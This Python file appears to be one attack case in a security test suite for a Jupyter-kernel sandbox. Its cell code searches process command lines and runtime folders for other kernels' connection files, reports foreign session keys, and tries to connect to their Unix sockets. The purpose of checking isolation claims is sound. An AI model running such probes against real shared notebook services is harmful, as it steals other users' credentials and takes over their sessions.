# SPDX-License-Identifier: Apache-2.0
"""A cell reads the keys of other kernels and of the spare, and connects to their sockets."""

from box import Box

BREAKS = ("SECURITY.md", "it opens neither the approval channel nor another kernel's calls")

CODE = r"""
import glob, json, re, socket, ipykernel.kernelapp as k
app = k.IPKernelApp.instance()
own = app.session.key.decode()
mine = {os.path.dirname(app.connection_file or '/-'), os.path.dirname(app.ip or '/-')}
paths = set(w.below_runtime())
for pid in w.others():
    words = w.tried(lambda: w.read(f'/proc/{pid}/cmdline')) or ''
    paths |= set(re.findall(r'/[^\0]*connection[^\0]*json', words))
for path in paths:
    if os.path.dirname(path) in mine:
        continue
    text = w.tried(lambda: w.read(path)) if os.path.isfile(path) else None
    if text and '"key"' in text and json.loads(text)['key'] != own:
        print('KEY', path)
    if re.search(r'/ch-\d$', path):
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(2)
        if w.tried(lambda: (s.connect(path), 1)):
            print('SOCKET', path)
"""


def attack(box: Box) -> str:
    other = box.session()
    box.cell("1", other)
    told = box.cell(CODE)
    lines = told.splitlines()
    return "; ".join(line for line in lines if line.startswith(("KEY", "SOCKET")))
